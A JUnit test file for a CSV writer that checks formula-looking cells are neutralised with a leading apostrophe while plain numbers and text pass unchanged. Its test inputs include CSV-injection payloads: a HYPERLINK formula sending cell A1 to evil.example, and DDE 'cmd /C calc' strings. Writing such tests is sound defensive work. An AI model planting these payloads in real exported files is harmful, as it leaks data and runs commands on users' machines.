package org.hygiene.core.text;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.hygiene.core.text.CsvWriter.Quoting;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class CsvWriterTest {

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
                "+cmd|' /C calc'!A0",
                "-2+3+cmd|' /C calc'!A0",
                "@SUM(1+1)*cmd|' /C calc'!A0",
                "\t=1+1",
                "\r=1+1",
                "-",
                "+1."
            })
    void aCellAFormulaCouldStartWithIsNeutralised(String value) {
        assertThat(CsvWriter.guarded(value)).isEqualTo("'" + value);
        String minimal = CsvWriter.cell(value, Quoting.MINIMAL);
        assertThat(minimal.startsWith("\"") ? minimal.substring(1) : minimal).startsWith("'");
        assertThat(CsvWriter.cell(value, Quoting.ALL)).startsWith("\"'");
    }

    @ParameterizedTest
    @ValueSource(strings = {"-3", "+2.5", "-0.25", "42", "", "plain text", "a=b", "GET /owa/"})
    void plainNumbersAndOrdinaryTextStayAsTheyAre(String value) {
        assertThat(CsvWriter.guarded(value)).isEqualTo(value);
    }

    @Test
    void cellsAreQuotedOnlyWhenNeededOrAlwaysOnRequest() {
        List<String> row = List.of("a", "b,c", "say \"hi\"", "x\ny", " edge", "");
        assertThat(CsvWriter.record(row, Quoting.MINIMAL))
                .isEqualTo("a,\"b,c\",\"say \"\"hi\"\"\",\"x\ny\",\" edge\",\r\n");
        assertThat(CsvWriter.record(row, Quoting.ALL))
                .isEqualTo("\"a\",\"b,c\",\"say \"\"hi\"\"\",\"x\ny\",\" edge\",\"\"\r\n");
    }

    @Test
    void aQuotedFormulaIsStillGuardedInsideTheQuotes() {
        assertThat(CsvWriter.cell("=1+2,3", Quoting.MINIMAL)).isEqualTo("\"'=1+2,3\"");
    }

    @Test
    void formulasBecomeTextButNumbersStayNumbers() {
        assertThat(CsvWriter.cell("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"))
                .isEqualTo("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\"");
        assertThat(CsvWriter.cell("+cmd")).isEqualTo("'+cmd");
        assertThat(CsvWriter.cell("-2+3")).isEqualTo("'-2+3");
        assertThat(CsvWriter.cell("@SUM(A1)")).isEqualTo("'@SUM(A1)");
        assertThat(CsvWriter.cell("\tx")).isEqualTo("'\tx");
        assertThat(CsvWriter.cell("\rx")).isEqualTo("\"'\rx\"");
        assertThat(CsvWriter.cell("-0.67")).isEqualTo("-0.67");
        assertThat(CsvWriter.cell("+5")).isEqualTo("+5");
        assertThat(CsvWriter.cell("-")).isEqualTo("'-");
    }

    @Test
    void rowsAreQuotedOnlyWhereNeededAndEndInCrLf() {
        assertThat(CsvWriter.row(List.of("a", "b,c", "say \"hi\"", "")))
                .isEqualTo("a,\"b,c\",\"say \"\"hi\"\"\",\r\n");
    }
}
